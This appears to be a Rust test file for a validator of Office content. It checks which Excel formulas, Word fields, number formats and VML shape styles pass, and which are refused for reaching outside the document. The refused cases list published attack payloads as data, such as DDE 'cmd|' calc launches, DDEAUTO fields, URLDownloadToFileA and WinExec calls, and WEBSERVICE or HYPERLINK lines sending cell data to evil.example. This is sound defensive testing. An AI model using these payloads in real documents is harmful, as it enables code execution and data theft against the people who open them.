//! What of the text that Excel and Word interpret may cross, by example: from ECMA-376, from what Office and LibreOffice write,
//! and from published attacks.

use form::office::grammar::field::{FieldRefused, NESTED, judge_field};
use form::office::grammar::formula::{FORMULA_CHARS, Refused, judge};
use form::office::grammar::{FIELD_BYTES, field, formula, number_format, vml};
use proptest::prelude::*;
use std::time::Duration;

#[test]
fn formulas_that_compute_from_their_own_workbook_pass() {
    let table = [
        "",
        // ECMA-376 part 1, section 18.17 (18.17.2 syntax, 18.17.2.2 constants, 18.17.2.3 operators, 18.17.5 names).
        "SUM(B2:B6)",
        "=SUM(B2:B6)",
        "A1:C3 B2:D4",
        "A1:B1 D1:D9",
        "SUM((A1:A2,C1))",
        "(Sheet1!$A$1,Sheet1!$C$1)",
        "\"a \"\"quoted\"\" text\"&A1",
        "{1,2;3,-4.5E+3;\"x\",TRUE;#N/A,.5}",
        "SUM({1,2,3})",
        "1.5E-3+2E3",
        "-A1%+-3",
        "+A1^-2",
        "A1<>B1",
        "A1<=B1=(C1>=D1)",
        "#REF!",
        "#DIV/0!",
        "Sheet1!#REF!",
        "#REF!$A$1",
        "#REF!#REF!",
        "#REF!=\"完了\"",
        "SUM(Sheet1:Sheet3!A1)",
        "SUM('Sheet 1:Sheet 3'!A1:B2)",
        "'シート 1'!$B$2",
        "'It''s'!A1",
        "'A (1)、a&b=c'!A1",
        "Sheet1!$A$1:$B$2,Sheet1!$D:$D",
        "取引単体!$1:$10",
        "'6'!$4:$5",
        "PG・UT作業の完了条件チェックリスト!$A$1:$M$34",
        "A1:INDEX(B:B,3)",
        "INDIRECT(\"A1\"):INDIRECT(\"B2\")",
        "R1C1+R2C2",
        "IF(A1,,)",
        "IF( A1 , \"a\" ,\nB1 )",
        "NA()",
        "RAND ()",
        "!$A$1",
        "[0]!Total",
        // Structured references (section 18.17.6).
        "Table1[[#This Row],[a]:[b]]",
        "SUBTOTAL(109,テーブル15[Column1])",
        "テーブル15[[#This Row],[Column1]]*4",
        "Table1[[#Headers],[#Data],[100%]]",
        "SUM(DeptSales[[Sales '[net'] '#1]])",
        "\\_Prime.1[Name]",
        "[@Price]*2",
        // Of the table around, as Excel's templates of 2007 and ClosedXML have them.
        "SUBTOTAL(109,[Income])",
        "[予算額]-[実績 額]",
        "SUM([a]:[c])",
        // Later functions, as Excel stores them.
        "_xlfn.LET(_xlpm.確認観点3数（確認観点3が空の場合は1）,COUNTA($D$11:D11),_xlpm.確認観点3数（確認観点3が空の場合は1）+1)",
        "_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1)(2)",
        "_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x*2),_xlpm.f(3))",
        "_xlfn._xlws.FILTER(A1:A9,A1:A9>0)",
        "_xlfn._xlws.SORT(_xlfn.UNIQUE(A1:A9))",
        "_xlfn.BYROW(A1:B2,_xleta.SUM)",
        "_xlfn.SINGLE(A1:A9)+_xlfn.ANCHORARRAY(B1)",
        "_xlfn._TRO_ALL(A:A)",
        "@A1:A9",
        "A1#",
        "_xludf.CONCAT(A1)",
        // Japanese Excel and LibreOffice.
        "DATESTRING(TODAY())",
        "NUMBERSTRING(A1,1)",
        "DATEDIF(A1,B1,\"Y\")&\"歳\"",
        "JIS(PHONETIC(A1))",
        "_xlfn.ORG.LIBREOFFICE.REGEX(A1,\"a\")",
        "_xlfn.ORG.OPENOFFICE.EASTERSUNDAY(2026)",
        // LibreOffice's charts in text documents.
        "label 0",
        "categories",
        // Validations, `sqref`.
        "\"○,×\"",
        "\"a|b\"",
        "F3 H5:H7",
        // Links that stay in the workbook or are fixed and safe.
        "HYPERLINK(\"#'目次'!A1\",\"戻る\")",
        "HYPERLINK(\"#'\"&A1&\"'!A1\",A1)",
        "HYPERLINK(\"https://www.example.jp/\")",
        "HYPERLINK(\"mailto:soumu@example.jp\",\"総務\")",
        // Escapes of ST_Xstring that mean nothing else.
        "SUBSTITUTE(A1,\"_x000D_\",\"\")",
        "SUBSTITUTE(A1,\"_x005F_x000D_\",\"\")",
    ];
    for text in table {
        assert_eq!(judge(text), Ok(()), "{text:?}");
    }
}

#[test]
fn formulas_that_reach_outside_are_refused_and_say_why() {
    use Refused::{Dde, External, Function, Malformed};
    let table = [
        // DDE: OWASP "CSV injection", SensePost "Macro-less code exec", and variants seen since.
        ("=cmd|'/c calc'!A0", Dde),
        ("=cmd|' /C calc'!'A1'", Dde),
        ("+cmd|'/c calc'!A0", Dde),
        ("-2+3+cmd|' /C calc'!A0", Dde),
        ("@SUM(1+1)*cmd|' /C calc'!A0", Dde),
        ("=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", Dde),
        ("=rundll32|'URL.dll,OpenURL calc.exe'!A", Dde),
        ("=IF(1=1,cmd|'/c calc'!A0,0)", Dde),
        ("'cmd|/c calc'!A0", Dde),
        ("cmd｜calc!A0", Dde),
        ("cmd[|'/c calc'!A0]", Dde),
        ("cmd[a]|'/c calc'!A0", Dde),
        ("DDE(\"soffice\",\"file\",\"A1\")", Function),
        // Other workbooks (18.17.2.4: `[1]` numbers an external link) and paths.
        ("[1]Sheet1!A1", External),
        ("'[2]Sheet 6'!$A$1", External),
        ("VLOOKUP(B2,[1]Sheet1!A:D,2,0)", External),
        ("SUM('[book.xlsx]Sheet0'!A1:B1)", External),
        ("[book.xlsx]Sheet0!A1", External),
        ("'C:\\[b.xls]S'!A1", External),
        ("C:\\dir\\[b.xls]S!A1", External),
        ("\\\\host\\share\\[b.xls]S!A1", External),
        ("\\\\host\\share\\b!Name", External),
        ("'https://evil.example/[b.xlsx]S'!A1", External),
        ("http://evil.example/x!A1", External),
        ("['file:///tmp/a.xlsx']Sheet1!A1", External),
        ("'file:///tmp/a.ods'#$Sheet1.A1", External),
        ("Book2.xlsx!Total", External),
        ("'Book2.xlsb'!Total", External),
        ("[1]!Macro()", External),
        ("[1] Sheet1!A1", External),
        ("[1]'Sheet 1'!A1", External),
        ("[1] 'Sheet 1'!A1", External),
        ("[1][2]Sheet1!A1", External),
        ("[1]#REF!", External),
        ("SUM([book.xlsx] !A1)", External),
        ("[a|b]", Dde),
        ("Table1[a]!B1", External),
        ("A1![1]Sheet1", Malformed),
        // Functions that load, run or tell something.
        ("WEBSERVICE(\"http://evil.example/?\"&A1)", Function),
        ("_xlfn.WEBSERVICE(\"http://evil.example\")", Function),
        ("_xlfn.MAP(A1,_xleta.WEBSERVICE)", Function),
        ("_xlfn.MAP(A1,WEBSERVICE)", Function),
        ("(_xlfn.IMAGE)(\"https://evil.example/a.png\")", Function),
        ("_xlfn.IMAGE(\"https://evil.example/a.png\")", Function),
        ("_xlfn.FILTERXML(A1,\"//a\")", Function),
        ("_xlfn.STOCKHISTORY(A1,B1)", Function),
        ("_xlfn._xlws.PY(1,0)", Function),
        ("CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,A1,A2,0,0)", Function),
        ("REGISTER.ID(\"Kernel32\",\"WinExec\")", Function),
        ("exec(\"calc.exe\")", Function),
        ("EXEC (\"calc.exe\")", Function),
        ("EVALUATE(A1)", Function),
        ("ALERT(\"Excel 4 macro\")", Function),
        ("HALT()", Function),
        ("RTD(\"prog.id\",,\"topic\")", Function),
        ("SQL.REQUEST(\"DSN=x\")", Function),
        ("CUBEVALUE(\"connection\")", Function),
        ("INFO(\"directory\")", Function),
        ("MyUdf(A1)", Function),
        ("[0]!Macro(1)", Function),
        ("Module1!Macro (1)", Function),
        ("#REF!EXEC(1)", Function),
        ("ＳＵＭ(A1)", Function),
        ("_xll.Addin(1)", Function),
        ("HYPERLINK(A1)", External),
        ("HYPERLINK(\"file:///c:/a.exe\")", External),
        ("HYPERLINK(\"\\\\host\\share\")", External),
        ("HYPERLINK(\"[Book2.xlsx]Sheet1!A1\")", External),
        ("HYPERLINK(\"https://evil.example/?\"&A1)", External),
        ("HYPERLINK(IF(1,\"#a\"))", External),
        ("_xlfn.MAP(A1,_xleta.HYPERLINK)", Function),
        // Escapes of ST_Xstring, which Excel turns into the character.
        ("cmd_x007C_'/c calc'!A0", Malformed),
        ("\"_x0022_&WEBSERVICE(A1)&_x0022_\"", Malformed),
        ("WEB_x005F_SERVICE", Malformed),
        // No formulas.
        ("\"unclosed", Malformed),
        ("'unclosed", Malformed),
        ("'Sheet 1'", Malformed),
        ("SUM(A1", Malformed),
        ("SUM(A1))", Malformed),
        ("SUM(1+)", Malformed),
        ("(A1,)", Malformed),
        ("A1;B1", Malformed),
        ("A1+", Malformed),
        ("==A1", Malformed),
        ("{A1}", Malformed),
        ("{1+2}", Malformed),
        ("{{1}}", Malformed),
        ("{1,,2}", Malformed),
        ("1.2.3", Malformed),
        ("1E", Malformed),
        ("12AB", Malformed),
        ("#NOPE!", Malformed),
        ("Table1[a", Malformed),
        ("Table1[[[a]]]", Malformed),
        ("A1\0", Malformed),
        ("\"\u{202E}\"", Malformed),
    ];
    for (text, why) in table {
        assert_eq!(judge(text), Err(why), "{text:?}");
        assert!(!formula(text));
    }
}

#[test]
fn a_formula_holds_8192_characters_and_256_brackets() {
    let text = |chars: usize| format!("\"{}\"", "漢".repeat(chars - 2));
    assert_eq!(judge(&text(FORMULA_CHARS)), Ok(()));
    assert_eq!(judge(&text(FORMULA_CHARS + 1)), Err(Refused::Malformed));
    let nested = |depth: usize| format!("{}1{}", "(".repeat(depth), ")".repeat(depth));
    assert_eq!(judge(&nested(256)), Ok(()));
    assert_eq!(judge(&nested(257)), Err(Refused::Malformed));
}

#[test]
fn fields_that_show_the_document_pass() {
    let table = [
        // ECMA-376 part 1, section 17.16.5, and Japanese Word.
        " PAGE ",
        "PAGE   \\* MERGEFORMAT",
        "page\\* Arabic",
        " PAGE \\# \"'Page: '#''\" ",
        " NUMPAGES ",
        " PAGEREF _Toc169604464 \\h ",
        " NOTEREF _Ref3380721 \\f \\h ",
        " STYLEREF 1 \\s ",
        " SEQ 図 \\* ARABIC ",
        " TOC \\o \"1-3\" \\h \\z \\t \"見出し,1\" ",
        " DATE \\@ \"ggge年M月d日\" ",
        " TIME \\@ “yyyy'年'M'月'd'日'” ",
        " EQ \\* jc2 \\* \"Font:ＭＳ 明朝\" \\* hps10 \\o\\ad(\\s\\up 9(ふりがな),漢字)",
        "eq \\o\\ac(○,印)",
        " FILENAME \\p ",
        " TEMPLATE \\p ",
        " FORMTEXT ",
        " SYMBOL 183 \\f \"Symbol\" \\s 10 \\h ",
        " XE \"索引:項目\" \\y \"さくいん\" ",
        " =SUM(ABOVE) \\# \"#,##0\" ",
        "=\u{FFFC}+1",
        " IF \u{FFFC} = \"1\" \"added\" \"not\" ",
        " QUOTE \"68 68 69\" ",
        " SET total \u{FFFC} ",
        " MERGEFIELD 氏名 ",
        " DOCPROPERTY  会社 ",
        // Links.
        " HYPERLINK \\l \"_Toc1\" ",
        " HYPERLINK \"\" \\l \"_Toc1\" ",
        " HYPERLINK \"https://example.jp/a?b=c\" \\o \"題\" \\t \"_blank\" ",
        "HYPERLINK mailto:soumu@example.jp",
        " HYPERLINK \"http://example.jp/資料.pdf\" \\l \"p1\" \\h \\* MERGEFORMAT",
        // Cut at the end of a part.
        " TITLE \\* \"upp",
    ];
    for text in table {
        assert_eq!(judge_field(text), Ok(()), "{text:?}");
    }
}

#[test]
fn fields_that_reach_outside_are_refused_and_say_why() {
    use FieldRefused::{Dde, External, Unknown};
    let table = [
        // SensePost, "Macro-less code exec in MSWord"; oletools' DDE samples.
        ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"", Dde),
        (" ddeauto \"c:\\\\windows\\\\system32\\\\cmd.exe\" ", Dde),
        (" DDE cmd \"/c calc\" ", Dde),
        ("\tDdEaUtO\tcmd", Dde),
        // Obfuscation by character codes and by parts.
        (" QUOTE 68 68 69 65 85 84 79 ", Dde),
        (" QUOTE 0x44 0x44 ", Dde),
        (" QUOTE \"DDEAUTO c:\\\\\" ", Dde),
        (" SET c \"DDEAUTO cmd\" ", Dde),
        (" IF 1 = 1 \"DDE\" \"x\" ", Dde),
        (" SET c \"INCLUDETEXT http://evil.example\" ", External),
        ("\u{FFFC} PAGE", Unknown),
        ("PAGE\u{FFFC}", Unknown),
        ("\u{FFFC}", Unknown),
        (" \"/k calc.exe\" ", Unknown),
        ("D\"D\"E cmd", Unknown),
        ("", Unknown),
        (" ", Unknown),
        // What is not in the document.
        (" INCLUDEPICTURE \"http://evil.example/a.png\" \\d ", External),
        (" INCLUDETEXT \"\\\\\\\\host\\\\a.docx\" ", External),
        (" IMPORT a.wmf ", External),
        (" LINK Excel.Sheet.8 \"c:\\\\a.xls\" ", External),
        (" EMBED Equation.3 ", External),
        (" DATABASE \\d a.mdb ", External),
        (" RD \"c:\\\\a.docx\" ", External),
        (" HTMLCONTROL x ", External),
        // Questions, actions, other programs' own.
        (" MACROBUTTON NoMacro [ここをクリック] ", Unknown),
        (" GOTOBUTTON a b ", Unknown),
        (" PRINT 27\"E\" ", Unknown),
        (" FILLIN \"?\" ", Unknown),
        (" ASK a \"?\" ", Unknown),
        (" ADDIN EN.CITE ", Unknown),
        (" AUTOTEXT a ", Unknown),
        (" PRIVATE ", Unknown),
        (" CONTROL Forms.TextBox.1 ", Unknown),
        (" NEXT ", Unknown),
        (" _Toc1 \\h ", Unknown),
        (" PAGES ", Unknown),
        ("ＰＡＧＥ", Unknown),
        ("PAGE \0", Unknown),
        // Links.
        (" HYPERLINK \"file:///c:/a.exe\" ", External),
        (" HYPERLINK \"javascript:alert(1)\" ", External),
        (" HYPERLINK \"about:blank\" ", External),
        (" HYPERLINK \"a.doc\" ", External),
        (" HYPERLINK \"https://bank.example@evil.example/\" ", External),
        (" HYPERLINK \"https://a.example\" \"file:///b\" ", External),
        (" HYPERLINK “https://a.example” file:///b ", External),
        (" HYPERLINK \\l \u{FFFC} ", External),
        (" HYPERLINK \"https://a.example/\" \\q ", Unknown),
        (" HYPERLINK \\l ", Unknown),
    ];
    for (text, why) in table {
        assert_eq!(judge_field(text), Err(why), "{text:?}");
        assert!(!field(text));
    }
    assert_eq!(NESTED, '\u{FFFC}');
    assert!(field(&format!("{:FIELD_BYTES$}", "PAGE")));
    assert!(!field(&format!("{:1$}", "PAGE", FIELD_BYTES + 1)));
}

#[test]
fn number_formats_pass_unless_a_text_or_bracket_does_not_end() {
    let good = [
        "",
        "General",
        "G/標準",
        "0.00_);[Red]\\(0.00\\)",
        "_ \"¥\"* #,##0_ ;_ \"¥\"* \\-#,##0_ ;_ \"¥\"* \"-\"_ ;_ @_ ",
        "[$-411]ggge\"年\"m\"月\"d\"日\";@",
        "[$¥-411]#,##0.00",
        "[$-ja-JP-x-gannen]ggge\"年\"m\"月\"d\"日\"",
        "[DBNum1][$-804]General",
        "[赤]▲#,##0",
        "[Color10]0",
        "yyyy/m/d(aaa)",
        "[h]:mm:ss",
        "# ?/?",
        "0.00E+00",
        "[<=9999999]###\\-####;\\(###\\)\\ ###\\-####",
        "[>=1E-5]0;[<-0.5]0",
        ";;;",
        "0_",
        "上午/下午h\"時\"mm\"分\"",
        "h:mm\\ AM/PM",
        "\"]\"0\\]\\\"",
    ];
    for text in good {
        assert!(number_format(text), "{text:?}");
    }
    for text in
        ["\"a", "0\"", "[Red", "Red]0", "[]0", "[[Red]]0", "[<]0", "[!x]0", "0;0;0;0;0", "0\0", "0\n", "\u{202E}0"]
    {
        assert!(!number_format(text), "{text:?}");
    }
    assert!(number_format(&"年".repeat(255)));
    assert!(!number_format(&"0".repeat(256)));
}

#[test]
fn styles_only_place_size_and_label_a_shape() {
    let good = [
        "",
        "position:absolute;margin-left:95pt;margin-top:-3.65pt;width:98.4pt;height:3e-5mm;z-index:-251658752;visibility:hidden",
        "position:absolute; left:0; top:152; flip:x y; rotation:-5898239fd; mso-wrap-style:tight;",
        "mso-next-textbox:#_x0000_s1027;mso-fit-shape-to-text:t;v-text-anchor:middle",
        "mso-left-percent:-10001;mso-position-horizontal-relative:right-margin-area;layout-flow:vertical-ideographic",
        "font-family:\"ＭＳ Ｐゴシック\";font-size:1pt;font-weight:bold;v-text-kern:t;v-text-spacing:78650f",
        "font:bold 18pt 'HG創英角ﾎﾟｯﾌﾟ体'",
        "WIDTH: auto",
    ];
    for text in good {
        assert!(vml::style(text), "{text:?}");
    }
    let bad = [
        "behavior:url(#default#VML)",
        "background:url(http://evil.example/a.png)",
        "width:expression(alert(1))",
        "w\\69dth:1pt",
        "width:1pt\\",
        "font-family:\"a",
        "font-family:url(a)",
        "mso-next-textbox:http://a",
        "-moz-binding:x",
        "unknown:1",
        "width",
        "left:1.2.3",
        "width:/**/1pt",
        "@import 'a'",
    ];
    for text in bad {
        assert!(!vml::style(text), "{text:?}");
    }
    assert!(vml::style(&format!("{:1$}", "left:0;", vml::STYLE_BYTES)));
    assert!(!vml::style(&format!("{:1$}", "left:0;", vml::STYLE_BYTES + 1)));
}

#[test]
fn paths_and_equations_of_shapes_pass() {
    let good = [
        "",
        "m,l,21600r21600,l21600,xe",
        "m@4@5l@4@11@9@11@9@5xe",
        "m0@5qy@2@1l@0@1@0@2qy@7,,21600@2xem0@5nfqy@2@6",
        "al10800,10800,10800,10800@3@15wr-1,.5,2,3hbe",
        "m #0 , -5 l +1 2 x e",
        "sum #0 0 10800",
        "prod @3 21600 pixelWidth",
        "if lineDrawn pixelLineWidth 0",
        "val width",
        "cosatan2 10800 @1 -5.5",
    ];
    for text in good {
        assert!(vml::path(text), "{text:?}");
    }
    for text in
        ["z", "m@", "m#x", "m-", "run 1", "sum 1 2 3 4", "sum #0 x 1", "m(0)", "m\\", "url(a)", "M0,0", "sum 1.2.3"]
    {
        assert!(!vml::path(text), "{text:?}");
    }
    assert!(vml::path(&"l1,".repeat(vml::PATH_BYTES / 3)));
    assert!(!vml::path(&"l1,2".repeat(vml::PATH_BYTES / 4 + 1)));
}

/// Beginnings that a grammar with a quadratic corner would be slow on when they are repeated up to its limit or far beyond.
const REPEATED: [&str; 14] =
    ["(", "\"", "'", "[", "a ", "A1[", "_x", "HYPERLINK(\"", "\\", "\\l ", "[a]", "a:b;", "@0", "漢"];

#[test]
fn long_texts_are_judged_in_time() {
    let before = processor_time();
    for part in REPEATED {
        for bytes in [8 * 1024, 32 * 1024, 1024 * 1024] {
            let text = part.repeat(bytes / part.len());
            let _ = (formula(&text), field(&text), number_format(&text));
            let _ = (vml::style(&text), vml::path(&text));
            let _ = field(&format!("HYPERLINK {text}"));
        }
    }
    // About 50 ms where this was written; the square of 1 MB would be hours.
    let spent = processor_time() - before;
    assert!(spent < Duration::from_secs(10), "{spent:?}");
}

/// What this thread has had of a processor so far: a machine that does other things as well does not make it longer.
/// User and system time are the 14th and 15th field (proc_pid_stat(5)), in hundredths of a second on every Linux of this architecture;
/// the second, the name, stands in parentheses and may hold anything.
#[allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "a helper of a test, which fails by panicking")]
fn processor_time() -> Duration {
    let stat = std::fs::read_to_string("/proc/thread-self/stat").unwrap();
    let (_, behind_the_name) = stat.rsplit_once(')').unwrap();
    let ticks: u64 =
        behind_the_name.split_whitespace().skip(11).take(2).map(|field| field.parse::<u64>().unwrap()).sum();
    Duration::from_millis(ticks * 10)
}

proptest! {
    #[test]
    fn any_text_is_judged(text in "\\PC{0,200}") {
        let _ = (judge(&text), judge_field(&text), number_format(&text), vml::path(&text));
        let _ = vml::style(&text);
    }

    #[test]
    fn no_mix_of_signs_lets_another_program_or_workbook_through(
        text in "(=|A1|cmd|SUM|EXEC|_xlfn\\.|Sheet1|[+&,:;!|'\"()\\[\\]{}#@\\\\ ]|1|\"x\"|'S'|T\\[a\\]|\\[0\\]|\\[1\\]){0,14}"
    ) {
        if formula(&text) {
            // Outside texts and quoted names there is neither of what the refused need.
            let parts = text.split('"').step_by(2).collect::<String>();
            prop_assert!(!parts.contains('|'), "{}", text);
            prop_assert!(!parts.contains("EXEC("), "{}", text);
            prop_assert!(!parts.contains("[1]S") && !parts.contains("[1]!") && !parts.contains("[1]'"), "{}", text);
        }
    }

    #[test]
    fn a_field_passes_only_by_its_first_word(
        text in "( |\"|\u{FFFC}|“|PAGE|QUOTE|SET|HYPERLINK|DDEAUTO|DDE|68|\\\\l|https://a\\.example/|file:///a|x){0,8}"
    ) {
        if field(&text) {
            let first = text.trim_start().split([' ', '"', '“', '\\']).next().unwrap_or_default().to_owned();
            prop_assert!(["PAGE", "QUOTE", "SET", "HYPERLINK"].contains(&first.as_str()), "{}", text);
            prop_assert!(first != "HYPERLINK" || !text.contains('\u{FFFC}'), "{}", text);
        }
    }
}
